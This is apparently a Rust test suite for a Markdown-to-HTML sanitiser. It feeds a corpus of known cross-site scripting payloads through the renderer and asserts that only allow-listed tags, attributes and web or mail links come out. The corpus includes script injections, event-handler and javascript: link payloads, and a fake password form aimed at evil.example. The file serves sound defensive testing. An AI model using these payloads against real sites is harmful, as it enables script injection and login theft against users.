//! Markdown to HTML lets nothing through that a reader did not come for.

use app::markdown::{TABLE_BOX, to_excerpt, to_html, visible};

/// Ways in that have worked somewhere.
const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[a](https://ok.example \"x\\\" onmouseover=alert(1) y=\\\"\")",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\" onmouseover=\"alert(1)\nx\n```",
    "# <img src=x onerror=alert(1)>",
    "| <b onclick=alert(1)>x</b> |\n|---|\n| <style>*{display:none}</style> |",
    "<p style=\"position:fixed\">x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<br onclick=alert(1)>",
    "<a name=x id=main class=card>x</a>",
];

const ALLOWED: &[&str] = &[
    "p",
    "br",
    "hr",
    "h3",
    "h4",
    "h5",
    "h6",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

/// Every tag of a text, without its brackets.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default()).collect()
}

#[test]
fn no_tag_or_attribute_outside_the_list_comes_out() {
    for source in CORPUS {
        let html = to_html(source).replace(TABLE_BOX, "").replace("</table></div>", "</table>");
        for tag in tags(&html) {
            let name = tag.trim_start_matches('/').split_whitespace().next().unwrap_or_default();
            assert!(ALLOWED.contains(&name), "{source:?} lets <{tag}> through: {html}");
            let attributes = tag.split_once(' ').map_or("", |(_, rest)| rest);
            let names = attributes.split("=\"").filter_map(|part| part.rsplit(['"', ' ']).next()).filter(|name| !name.is_empty());
            for name in names.take(attributes.matches("=\"").count()) {
                assert!(["href", "title", "rel", "start"].contains(&name), "{source:?} lets {name} through: {html}");
            }
        }
    }
}

#[test]
fn links_lead_to_the_web_or_to_mail_only() {
    for source in CORPUS {
        let html = to_html(source);
        for target in html.split("<a href=\"").skip(1) {
            let good = ["https://", "http://", "mailto:"].iter().any(|scheme| target.starts_with(scheme));
            assert!(good, "{source:?} leads to {target}");
        }
    }
}

#[test]
fn images_become_links_so_that_no_third_party_is_asked() {
    let html = to_html("![Graph](https://pictures.example/graph.png)");
    assert!(html.contains("<a href=\"https://pictures.example/graph.png\"") && html.contains(">Graph</a>"), "{html}");
    assert!(!html.contains("<img"));
}

#[test]
fn tags_are_shown_as_text_and_line_breaks_are_kept() {
    assert_eq!(to_html("a <b>c</b>"), "<p>a &lt;b&gt;c&lt;/b&gt;</p>");
    assert_eq!(to_html("one<br>two<br />three").matches("<br>").count(), 2);
    assert_eq!(to_html("one\ntwo").matches("<br>").count(), 1);
}

#[test]
fn headings_start_below_the_pages_own() {
    assert_eq!(to_html("# One"), "<h3>One</h3>");
    assert_eq!(to_html("### Three"), "<h3>Three</h3>", "a part of a document begins where the whole has got to");
    assert_eq!(to_html("## Two\n### Three\n###### Six"), "<h3>Two</h3>\n<h4>Three</h4>\n<h6>Six</h6>");
}

#[test]
fn what_no_reader_sees_is_gone() {
    assert_eq!(visible("a\u{202E}b\u{0}c\u{2066}d\u{FFFE}e\u{7}"), "abcde");
    assert_eq!(visible("line\n\ttab"), "line\n\ttab");
}

#[test]
fn an_excerpt_is_the_first_paragraph_cut_at_a_words_end() {
    assert_eq!(to_excerpt("**Fixed**, see [notes](https://x.example).\n\nMore.", 80), "Fixed, see notes.");
    assert_eq!(to_excerpt("one two three four", 9), "one two…");
    assert_eq!(to_excerpt("", 9), "");
}

#[test]
fn long_and_deep_texts_are_rendered() {
    let long = "word ".repeat(5_000);
    assert!(to_html(&long).len() > 20_000);
    let deep = format!("{}x", "> ".repeat(500));
    assert!(to_html(&deep).contains('x'));
    let stars = "*".repeat(20_000);
    assert!(!to_html(&stars).is_empty());
}
